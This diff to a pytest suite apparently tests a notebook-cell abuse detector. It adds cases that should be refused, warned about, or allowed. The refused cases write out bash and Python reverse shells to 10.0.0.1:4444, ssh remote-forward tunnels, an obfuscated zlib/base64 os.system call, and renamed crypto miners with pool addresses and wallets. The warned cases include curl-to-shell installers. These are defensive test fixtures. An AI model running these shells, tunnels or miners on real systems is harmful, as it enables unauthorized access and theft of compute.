@@ -75,12 +75,40 @@ REFUSED = [
     ("for loop over names", ["import os\nfor t in ['ngrok']:\n    os.system(t + ' tcp 22')"]),
     ("zlib", ["import os, zlib, base64\nos.system(zlib.decompress(base64.b64decode("
               "'eJzLSy/Kz1YoSS5QMDICAB2RBA0=')).decode())"]),
+    ("ssh -R behind sshpass", ["!sshpass -p pw ssh -o StrictHostKeyChecking=no -R 2222:localhost:22 me@vps"]),
+    ("ssh -o RemoteForward", ["!ssh -o 'RemoteForward 2222 localhost:22' me@vps"]),
+    ("sshd as a service", ["!service ssh start"]),
+    ("sshd through systemctl", ["!systemctl start ssh"]),
+    ("sshd through init.d", ["!/etc/init.d/ssh start"]),
+    ("tor as a service", ["!sudo service tor start"]),
+    ("pyngrok's command line", ["!python -m pyngrok http 8888"]),
+    ("bash reverse shell", ["!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]),
+    ("python reverse shell", ["import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
+                              "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])"]),
+    ("torrentp", ["from torrentp import TorrentDownloader\n"
+                  "TorrentDownloader('magnet:?xt=urn:btih:" + "a" * 40 + "', '.').start_download()"]),
     ("renamed miner, donate level", ["!./kworker -o 10.0.0.9:3333 --donate-level 1 -B"]),
     ("renamed miner, wallet login", ["!./kworker -o gulf.moneroocean.stream:10128 -u "
                                      "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x"]),
     ("renamed GPU miner, wallet", ["!./lm --algo ETCHASH --pool etc.2miners.com:1010 --user "
                                    "0x52908400098527886E0F7030069857D2E4169EE7.rig1"]),
 ]
+
+
+WARNED = [
+    ("tor installed", "!sudo apt-get install -y tor"),
+    ("v2ray and shadowsocks installed", "!apt install -y v2ray shadowsocks-libev"),
+    ("pproxy installed", "!pip install pproxy"),
+    ("ngrok through npm i", "!npm i -g ngrok"),
+    ("tailscale's installer", "!curl -fsSL https://tailscale.com/install.sh | sh"),
+    ("zerotier's installer", "!curl -s https://install.zerotier.com | sudo bash"),
+    ("sshx's installer", "!curl -sSf https://sshx.io/get | sh -s run"),
+]
+
+
+@pytest.mark.parametrize("what, cell", WARNED, ids=[w[0] for w in WARNED])
+def test_acquisitions_are_warned(what, cell):
+    assert {d.signature.action for d in run_cells([cell])} == {"warn"}
 
 
 @pytest.mark.parametrize("what, cells", REFUSED, ids=[r[0] for r in REFUSED])
@@ -131,6 +159,13 @@ HONEST = [
     ("os.environ for a library", "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n!echo $CUDA_VISIBLE_DEVICES"),
     ("a benchmark of hashing algorithms", "!python bench.py --algo kawpow --iterations 100"),
     ("a wallet address analysed", "!python audit.py --address 0x52908400098527886E0F7030069857D2E4169EE7"),
+    ("service status and a database started", "!service ssh status\n!service postgresql start"),
+    ("ssh with a local forward option", "!ssh -o 'LocalForward 5432 db:5432' me@bastion"),
+    ("a port check through /dev/tcp", "%%bash\ntimeout 1 bash -c '</dev/tcp/127.0.0.1/8888' && echo up"),
+    ("a socket and a log redirected", "import os, socket\ns = socket.socket()\ns.connect(('127.0.0.1', 8888))\n"
+                                      "os.dup2(log.fileno(), 2)"),
+    ("tor's GeoIP data installed", "!apt-get install -y tor-geoip"),
+    ("pip from another index", "!pip install -i https://pypi.example.org/simple torch"),
     ("a loop over file names", "import os\nfor f in ['a.csv', 'b.csv']:\n    os.system('gzip ' + f)"),
     ("a config dictionary", "cfg = {'model': 'xmrig-detector', 'lr': 0.01}\nprint(cfg['model'])"),
     ("bash reading stdin from a data file", "!bash -s < params.txt"),
